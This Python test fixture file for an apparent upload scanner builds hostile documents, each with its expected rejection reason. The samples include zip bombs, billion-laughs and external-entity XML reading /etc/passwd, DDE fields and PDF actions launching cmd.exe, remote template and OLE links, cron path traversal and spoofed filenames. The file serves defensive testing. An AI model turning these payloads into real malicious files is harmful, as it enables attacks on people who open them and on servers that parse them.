"""Files of people who mean harm, written here so that no scanner minds the repository; and what office suites make."""

from __future__ import annotations

import struct
import zipfile
import zlib
from collections.abc import Callable
from io import BytesIO

from tests.storage import files

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
RELS = "word/_rels/document.xml.rels"
KINDS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'


def docx(**members: bytes | str) -> bytes:
    """A real Word file with parts added or replaced: word__document_xml is word/document.xml."""
    named = {name.replace("__", "/").replace("_", "."): _bytes(data) for name, data in members.items()}
    return files.changed(files.docx(), named)


def xlsx(**members: bytes | str) -> bytes:
    named = {name.replace("__", "/").replace("_", "."): _bytes(data) for name, data in members.items()}
    return files.changed(files.xlsx(), named)


def _bytes(data: bytes | str) -> bytes:
    return data.encode() if isinstance(data, str) else data


def relation(kind: str, target: str, mode: str = 'TargetMode="External"') -> bytes:
    return f'{XML}<Relationships xmlns="x"><Relationship Id="r9" Type="{KINDS}{kind}" Target="{target}" {mode}/></Relationships>'.encode()


def with_relation(data: bytes) -> bytes:
    return files.changed(files.docx(), {RELS: data})


def word(body: str) -> bytes:
    space = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    return files.changed(files.docx(), {"word/document.xml": f"{XML}<w:document {space}>{body}</w:document>".encode()})


def field(*pieces: str) -> bytes:
    """A field of Word whose words are cut over several runs."""
    return word("".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces))


def odt(content: str) -> bytes:
    return files.odt(**{"content.xml": f"{XML}<office:document-content>{content}</office:document-content>".encode()})


def pdf(inside: bytes) -> bytes:
    return files.PDF.replace(b"/Type /Catalog", b"/Type /Catalog " + inside)


def packed_pdf(inside: bytes) -> bytes:
    """What it does stands in a packed stream of objects, as every modern writer keeps them."""
    stream = zlib.compress(inside)
    packed = (
        b"2 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream\nendobj\n"
    )
    return files.PDF.replace(b"trailer", packed % (len(stream), stream) + b"trailer")


def bomb(size: int, *, member: str = "word/media/image1.png") -> bytes:
    return files.changed(files.docx(), {member: b"\0" * size})


def lying(true_size: int, said: int) -> bytes:
    """The list of contents says that a member is small; its packed bytes say otherwise."""
    data = bytearray(files.changed(files.docx(), {"word/media/a.png": b"\0" * true_size}))
    size = struct.pack("<I", true_size)
    for signature, offset in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
        at = data.find(signature)
        while at >= 0:
            if data[at + offset : at + offset + 4] == size:
                data[at + offset : at + offset + 4] = struct.pack("<I", said)
            at = data.find(signature, at + 4)
    return bytes(data)


def nested(inner: bytes, name: str = "word/embeddings/blad1.xlsx") -> bytes:
    return files.changed(files.docx(), {name: inner})


def named(name: str) -> bytes:
    return files.changed(files.docx(), {name: b"x"})


def many_members(count: int) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as file:
        for number in range(count):
            file.writestr(f"word/media/{number}.png", b"")
    return out.getvalue()


LAUGHS = '<!DOCTYPE lolz [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><x>&c;</x>'
OUTSIDE = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
GIF = b"GIF89a/*\x01\x00\x01\x00*/=alert(1)//;"
HTML = b"<html><script>alert(document.cookie)</script></html>"
OLD_MACRO = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600 + "VBA".encode("utf-16-le")
PACKED = b"PK\x03\x04\x14\0\x01\0"
SEVEN_ZIP = b"7z\xbc\xaf\x27\x1c" + b"\0" * 30

HOSTILE: list[tuple[str, str, bytes | Callable[[], bytes], str]] = [
    # what it is, its name, its content (what takes long to make is made when it is asked for), why it is refused
    ("a zip bomb", "plan.docx", lambda: bomb(40_000_000), "bomb"),
    ("a zip bomb within a workbook", "plan.docx", lambda: nested(bomb(40_000_000, member="xl/media/a.png")), "bomb"),
    ("a member larger than the list says", "plan.docx", lambda: lying(3_000_000, 12), "bomb"),
    ("more members than any document has", "plan.docx", lambda: many_members(5_100), "bomb"),
    ("a relations part padded to pass unread", "plan.docx",
     lambda: with_relation(relation("image", "x") + b" " * 17_000_000), "bomb"),
    ("a PDF that is a zip too", "plan.pdf", files.PDF + files.archive({"a.html": HTML}), "not_what_it_says"),
    ("a zip before a PDF", "plan.pdf", files.archive({"a.html": HTML}) + files.PDF, "not_what_it_says"),
    ("a document with a page behind it", "plan.docx", files.docx() + HTML, "not_what_it_says"),
    ("a document with a page before it", "plan.docx", HTML + files.docx(), "not_what_it_says"),
    ("a GIF that is a script", "foto.png", GIF, "not_what_it_says"),
    ("a GIF under its own name", "foto.gif", GIF, "type_not_allowed"),
    ("a picture with a page behind it", "foto.png", files.png() + HTML, "not_what_it_says"),
    ("a photo with a page in it", "foto.jpg", files.JPEG[:-2] + HTML + b"\xff\xd9", "not_what_it_says"),
    ("a page that is called PDF", "plan.pdf", HTML, "not_what_it_says"),
    ("a page behind a PDF", "plan.pdf", files.PDF + HTML, "broken"),
    ("a program that is called PDF", "plan.pdf", b"MZ\x90\0" + b"\0" * 200, "not_what_it_says"),
    ("a picture that draws and runs", "logo.svg", SVG, "type_not_allowed"),
    ("a page", "plan.html", HTML, "type_not_allowed"),
    ("a Word file with macros", "plan.docm", files.docx(), "macro"),
    ("macros under the name of a plain document", "plan.docx", docx(word__vbaProject_bin=b"x"), "macro"),
    ("macros in another case", "plan.docx", docx(word__VBAPROJECT_BIN=b"x"), "macro"),
    ("macros behind a chart", "plan.docx", nested(xlsx(xl__vbaProject_bin=b"x")), "macro"),
    ("a macro workbook within", "plan.docx", nested(files.xlsx(), "word/embeddings/blad.xlsm"), "macro"),
    ("old macros in a sheet", "uren.xlsx", xlsx(xl__macrosheets__sheet1_xml="<x/>"), "macro"),
    ("an ActiveX part", "plan.docx", docx(word__activeX__activeX1_xml="<x/>"), "macro"),
    ("Basic in an ODF text", "plan.odt", files.odt(**{"Basic/Standard/Module1.xml": b"<x/>"}), "macro"),
    ("Python in an ODF text", "plan.odt", files.odt(**{"Scripts/python/a.py": b"x"}), "macro"),
    ("an old Word file", "plan.docx", OLD_MACRO, "not_what_it_says"),
    ("an old Word file under its own name", "plan.doc", OLD_MACRO, "type_not_allowed"),
    ("a template from elsewhere", "plan.docx", with_relation(relation("attachedTemplate", "http://elders/x.dotm")), "external"),
    ("a picture from elsewhere", "plan.docx", with_relation(relation("image", "http://elders/pixel.png")), "external"),
    ("a share from elsewhere", "plan.docx", with_relation(relation("subDocument", r"\\elders\deel\x.docx")), "external"),
    ("an object from elsewhere", "plan.docx", with_relation(relation("oleObject", "http://elders/x.hta")), "external"),
    ("a frame in other words", "plan.docx", with_relation(relation("frame", "x", 'TargetMode="&#69;xternal"')), "external"),
    ("a template in UTF-16", "plan.docx",
     with_relation(relation("attachedTemplate", "x").decode().replace("UTF-8", "UTF-16").encode("utf-16")), "external"),
    ("a template in UTF-7", "plan.docx",
     with_relation(relation("attachedTemplate", "x").replace(b"UTF-8", b"UTF-7")), "not_what_it_says"),
    ("a workbook from elsewhere", "uren.xlsx",
     xlsx(xl__externalLinks___rels__x_rels=relation("externalLinkPath", "http://elders/x.xlsx")), "external"),
    ("a picture of an ODF from elsewhere", "plan.odt", odt('<draw:image xlink:href="http://elders/x.png"/>'), "external"),
    ("a section of an ODF from elsewhere", "plan.odt", odt('<text:section-source xlink:href="file:///etc/passwd"/>'), "external"),
    ("an OLE object", "plan.docx", docx(word__embeddings__oleObject1_bin=b"x"), "active"),
    ("a program within", "plan.docx", docx(word__media__a_exe=b"MZ"), "active"),
    ("a DDE field", "plan.docx", field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"), "active"),
    ("a DDE field in pieces", "plan.docx", field("DDE", "AUTO", " cmd"), "active"),
    ("a DDE field in an attribute", "plan.docx", word('<w:fldSimple w:instr="DDE cmd /c calc"/>'), "active"),
    ("a field that fetches", "plan.docx", field("INCLUDEPICTURE ", '"http://elders/x.png"'), "active"),
    ("a DDE link in a sheet", "uren.xlsx", xlsx(xl__externalLinks__externalLink1_xml="<x><ddeLink ddeService='cmd'/></x>"), "active"),
    ("a DDE formula", "uren.xlsx", xlsx(xl__worksheets__sheet9_xml="<x><f>cmd|'/c calc'!A0</f></x>"), "active"),
    ("an ODF event", "plan.odt", odt('<script:event-listener xlink:href="vnd.sun.star.script:x"/>'), "active"),
    ("an entity from outside", "plan.docx", docx(word__document_xml=OUTSIDE), "active"),
    ("a billion laughs", "plan.docx", docx(word__styles_xml=LAUGHS), "active"),
    ("laughs in UTF-16", "plan.docx", docx(word__styles_xml=LAUGHS.encode("utf-16")), "active"),
    ("laughs behind a long comment", "plan.docx", docx(word__styles_xml=f"<!--{'x' * 70_000}-->{LAUGHS}"), "active"),
    ("laughs in an ODF", "plan.odt", files.odt(**{"content.xml": LAUGHS.encode()}), "active"),
    ("laughs in relations", "plan.docx", with_relation(LAUGHS.encode()), "active"),
    ("a Word file with a password", "plan.docx",
     b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600 + "EncryptedPackage".encode("utf-16-le"), "encrypted"),
    ("an archive with a password", "plan.docx", files.with_password_flag(files.docx()), "encrypted"),
    ("an archive", "plan.zip", PACKED, "type_not_allowed"),
    ("another archive", "plan.7z", SEVEN_ZIP, "type_not_allowed"),
    ("an archive that is called PDF", "plan.pdf", SEVEN_ZIP, "not_what_it_says"),
    ("a PDF with a password", "plan.pdf", files.PDF.replace(b"/Root", b"/Encrypt 2 0 R /Root"), "encrypted"),
    ("a password in other letters", "plan.pdf", files.PDF.replace(b"/Root", b"/E#6Ecrypt 2 0 R /Root"), "encrypted"),
    ("a PDF with a script", "plan.pdf", pdf(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), "active"),
    ("a script in other letters", "plan.pdf", pdf(b"/OpenAction << /S /Java#53cript /JS (x) >>"), "active"),
    ("a packed script", "plan.pdf", packed_pdf(b"1 0 << /S /JavaScript /JS (x) >>"), "active"),
    ("a PDF that starts a program", "plan.pdf", pdf(b"/OpenAction << /S /Launch /F (cmd.exe) >>"), "active"),
    ("a PDF with a file in it", "plan.pdf", pdf(b"/Names << /EmbeddedFiles 3 0 R >>"), "active"),
    ("a PDF that sends its fields", "plan.pdf", pdf(b"/A << /S /SubmitForm /F (http://elders) >>"), "active"),
    ("a way out of the folder", "plan.docx", named("../../etc/cron.d/x"), "not_what_it_says"),
    ("a way from the root", "plan.docx", named("/etc/cron.d/x"), "not_what_it_says"),
    ("a way with backslashes", "plan.docx", named("word\\..\\..\\x"), "not_what_it_says"),
    ("a drive", "plan.docx", named("C:/x"), "not_what_it_says"),
    ("the same member twice", "plan.docx", named("word/Document.xml"), "not_what_it_says"),
    ("a member with a hidden name", "plan.docx", named("word/\u202egnp.exe"), "not_what_it_says"),
    ("the test virus", "brief.txt", EICAR, "infected"),
    ("the test virus that is called PDF", "plan.pdf", EICAR, "infected"),
    ("two endings", "plan.pdf.exe", files.PDF, "type_not_allowed"),
    ("no ending", "plan", files.PDF, "type_not_allowed"),
    ("a NUL in its name", "plan.pdf\0.exe", files.PDF, "type_not_allowed"),
    ("a name that reads from right to left", "plan\u202efdp.exe", files.PDF, "type_not_allowed"),
    ("a name that is a path", "../../plan.php", files.PDF, "type_not_allowed"),
    ("half a Word file", "plan.docx", files.docx()[:-300], "broken"),
    ("half a PDF", "plan.pdf", files.PDF[:-8], "broken"),
    ("half a picture", "foto.png", files.png()[:-14], "broken"),
    ("half a photo", "foto.jpg", files.JPEG[:-2], "broken"),
    ("a text with a NUL", "brief.txt", b"Beste\0commissie", "not_what_it_says"),
]  # fmt: skip
